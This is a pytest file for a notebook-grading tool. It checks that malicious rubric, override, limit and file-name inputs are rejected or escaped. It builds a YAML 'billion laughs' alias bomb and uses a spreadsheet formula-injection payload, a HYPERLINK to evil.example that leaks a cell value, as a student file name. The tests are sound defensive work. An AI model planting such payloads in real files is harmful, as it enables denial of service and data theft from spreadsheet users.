"""Can a bad rubric, overrides file, limit or file name hang the grader, crash it, or reach a spreadsheet?

Each configuration attack of issue 15 is tried the way an instructor's (or a student's) file would
carry it; the answer must be a :class:`RubricError` naming the path and line, before anything runs.
"""

from __future__ import annotations

import csv
import shutil
import time
from pathlib import Path

import pytest
import yaml
from conftest import NOTEBOOKS, TEST_LIMITS, rubric_problems, run_grader

from grader import RubricError, grade_batch, load_rubric
from grader.batch.lms import load_extras
from grader.batch.overrides import load_overrides
from grader.errors import UsageError
from grader.front.cli import main
from grader.load.specs import Rubric
from grader.options import DEFAULT_RUBRIC
from grader.pipeline import with_limits

BOMB = "".join(
    f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9) if n else '1, 1, 1, 1, 1, 1, 1, 1, 1'}]\n" for n in range(10)
)


def rubric_text(tmp_path: Path, text: str) -> Path:
    (tmp_path / "quiz.yaml").write_text((DEFAULT_RUBRIC.parent / "quiz.yaml").read_text(encoding="utf-8"))
    path = tmp_path / "rubric.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def test_alias_bomb_is_refused_at_once_with_its_line(tmp_path: Path) -> None:
    """A billion laughs (10 levels of 9 aliases: 10⁹ nodes) must not even start expanding."""
    path = rubric_text(tmp_path, "schema_version: 1\n" + BOMB)
    started = time.monotonic()
    found = rubric_problems(path)
    assert time.monotonic() - started < 2
    assert found == ["<yaml>: not valid YAML: aliases (*name) are not allowed; write the value out (line 3)"]


@pytest.mark.kernel
def test_alias_bomb_through_the_command_line_exits_2_quickly(tmp_path: Path) -> None:
    path = rubric_text(tmp_path, "schema_version: 1\n" + BOMB)
    run = run_grader("grade", str(NOTEBOOKS / "correct.ipynb"), "--rubric", str(path), timeout=60, cwd=tmp_path)
    assert run.returncode == 2, run.stderr
    assert "aliases" in run.stderr and "(line 3)" in run.stderr
    assert "Traceback" not in run.stderr


def test_deep_nesting_and_nul_are_rubric_errors_not_tracebacks(tmp_path: Path) -> None:
    deep = rubric_text(tmp_path, "schema_version: 1\ntitle: " + "[" * 5000 + "]" * 5000 + "\n")
    assert rubric_problems(deep) == ["<yaml>: not valid YAML: nested more than 50 levels deep (line 2)"]
    nul = rubric_text(tmp_path, "schema_version: 1\ntitle: a\x00b\n")
    assert rubric_problems(nul) == ["<yaml>: not valid YAML: character #x0000 is not allowed (line 2)"]
    digits = rubric_text(tmp_path, "schema_version: 1\ntitle: x\ntasks: " + "9" * 6000 + "\n")
    assert rubric_problems(digits)[0].startswith("<yaml>: a value cannot be read:")


def test_duplicate_keys_are_named_with_path_and_both_lines(tmp_path: Path) -> None:
    text = DEFAULT_RUBRIC.read_text(encoding="utf-8").replace(
        "        rtol: 1.0e-6\n", "        rtol: 1.0e-6\n        rtol: 0.5\n", 1
    )
    path = rubric_text(tmp_path, text)
    found = rubric_problems(path)
    assert len(found) == 1
    first = text.splitlines().index("        rtol: 1.0e-6") + 1
    assert found[0] == f"tasks[0].checks[0].rtol: key given twice (first on line {first}); keep one (line {first + 1})"


def test_numbers_out_of_range_are_refused(tmp_path: Path) -> None:
    data = yaml.safe_load(DEFAULT_RUBRIC.read_text(encoding="utf-8"))
    data["limits"] = {"memory_mb": 1e20, "cell_timeout": 0, "notebook_timeout": -5, "processes": 2.5}
    data["tasks"][0]["reference"]["params"]["steps"] = 1e9
    data["tasks"][0]["checks"][0]["points"] = 10**400
    path = rubric_text(tmp_path, yaml.safe_dump(data, sort_keys=False))
    started = time.monotonic()
    found = rubric_problems(path)
    assert time.monotonic() - started < 10  # a billion reference steps would take minutes
    assert any(
        p.startswith("limits.memory_mb: must be between 256 and 1,048,576 (0: no limit), got 1e+20") for p in found
    )
    assert any(p.startswith("limits.cell_timeout: must be between 0.1 and 86,400, got 0") for p in found)
    assert any(p.startswith("limits.notebook_timeout: must be a non-negative number, got -5") for p in found)
    assert any(p.startswith("limits.processes: must be a whole number") for p in found)
    assert any("steps must be between 0 and 100,000, got 1e+09" in p for p in found)
    assert any(p.startswith("tasks[0].checks[0].points: must be a non-negative number, got 1000") for p in found)


def test_command_line_limits_are_bounded_too(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(UsageError, match="memory_mb: must be between 256"):
        with_limits(load_rubric(DEFAULT_RUBRIC).limits, memory_mb=10**20)
    assert main(["grade", str(NOTEBOOKS / "correct.ipynb"), "--memory-mb", "100000000000000000000"]) == 2
    assert "limits out of range: memory_mb" in capsys.readouterr().err


def test_duplicate_override_entries_are_refused(tmp_path: Path, rubric: Rubric) -> None:
    path = tmp_path / "overrides.yaml"
    path.write_text(
        "schema_version: 1\noverrides:\n"
        "  - {submission: bob, question: q3, points: 5, by: TA}\n"
        "  - {submission: bob, check: descent.trajectory, points: 1, by: TA}\n"
        "  - {submission: bob, question: q3, points: 0, by: Prof}\n",
        encoding="utf-8",
    )
    with pytest.raises(RubricError) as caught:
        load_overrides(path, rubric)
    assert [str(p) for p in caught.value.problems] == [
        "overrides[2]: a second decision on 'bob' q3 (the first is overrides[0], line 3); keep one (line 5)"
    ]


@pytest.mark.kernel
def test_a_formula_as_a_file_name_reaches_the_gradebook_as_text(tmp_path: Path, rubric: Rubric) -> None:
    """A student who names their notebook ``=HYPERLINK(…)`` (or a roster value starting with ``@``) must
    not get a formula into the instructor's spreadsheet; the id in the report stays what it was."""
    subs = tmp_path / "subs"
    subs.mkdir()
    name = '=HYPERLINK("evil.example?"&A1,"click")'
    shutil.copy(NOTEBOOKS / "correct.ipynb", subs / f"{name}.ipynb")
    shutil.copy(NOTEBOOKS / "correct.ipynb", subs / "-2+3.ipynb")
    roster = tmp_path / "roster.csv"
    with roster.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["id", "name"], [name, "@SUM(1+1)"], ["-2+3", "\tTab"]])
    result = grade_batch([subs], rubric, tmp_path / "out", limits=TEST_LIMITS, extras=load_extras(roster, None))
    assert {r.submission.id for r in result.reports} == {name, "-2+3"}
    rows = list(csv.DictReader((tmp_path / "out" / "gradebook.csv").read_text(encoding="utf-8").splitlines()))
    assert [(row["id"], row["name"]) for row in rows] == [("'-2+3", "'\tTab"), (f"'{name}", "'@SUM(1+1)")]
    assert all(float(row["score"]) > 0 for row in rows)  # numbers stay numbers
